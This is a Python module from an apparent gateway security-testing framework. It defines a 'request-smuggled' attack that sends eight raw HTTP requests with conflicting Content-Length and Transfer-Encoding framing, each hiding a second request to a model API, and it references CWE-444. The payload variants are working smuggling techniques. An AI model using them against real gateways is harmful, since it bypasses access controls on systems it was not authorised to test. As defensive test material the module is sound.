"""A second request hidden where two readers of one body would end it differently."""

from bartizan.drill.attack import Attack, Outcome, Stage
from bartizan.drill.door import Door
from bartizan.drill.target import Target
from bartizan.drill.trial import answered_raw, worst


def _act(target: Target) -> Outcome:
    token, goal = target.caller(), "a body whose end two readers would see differently was taken"
    return worst([answered_raw(target.door.raw(octets), goal) for octets in _requests(target.door, token)])


def _requests(door: Door, token: str) -> tuple[bytes, ...]:
    body = b'{"model":"%s","messages":[{"role":"user","content":"hi"}]}' % door.model.encode()
    hidden = door.request("GET", door.path("models"), token=token)
    chunk, end = b"%x\r\n%s\r\n" % (len(body), body), b"0\r\n\r\n"
    whole = chunk + end
    return (
        # The length covers less than the chunks do, and what is left over is a request.
        _head(door, token, b"content-length: %d\r\ntransfer-encoding: chunked" % len(whole)) + whole + hidden,
        _head(door, token, b"transfer-encoding: chunked\r\ncontent-length: 4") + whole + hidden,
        # Codings that one reader takes for chunked and another for the end of framing.
        _head(door, token, b"transfer-encoding: gzip, chunked") + whole + hidden,
        _head(door, token, b"transfer-encoding: chunked\r\ntransfer-encoding: identity") + whole + hidden,
        _head(door, token, b"transfer-encoding : chunked") + whole + hidden,
        _head(door, token, b"transfer-encoding: chunked", version=b"1.0") + whole + hidden,
        _head(door, token, b"content-length: %d\r\ncontent-length: 4" % len(body)) + body + hidden,
        _head(door, token, b"content-length: +%d" % len(body)) + body + hidden,
    )


def _head(door: Door, token: str, framing: bytes, version: bytes = b"1.1") -> bytes:
    target, host = door.path("chat/completions").encode(), door.name.encode()
    return (
        b"POST %s HTTP/%s\r\nhost: %s\r\nauthorization: Bearer %s\r\n"
        b"content-type: application/json\r\n%s\r\n\r\n"
    ) % (target, version, host, token.encode(), framing)


ATTACK = Attack(
    name="request-smuggled",
    control="gateway.input-valid",
    title="request smuggling",
    skill=4,
    stage=Stage.FRONT,
    because="RFC 9112 section 11.2: a hidden request reaches the upstream without any check of the gateway",
    references=("AML.T0049", "API8:2023", "CWE-444"),
    weakening="framing_unchecked",
    act=_act,
)
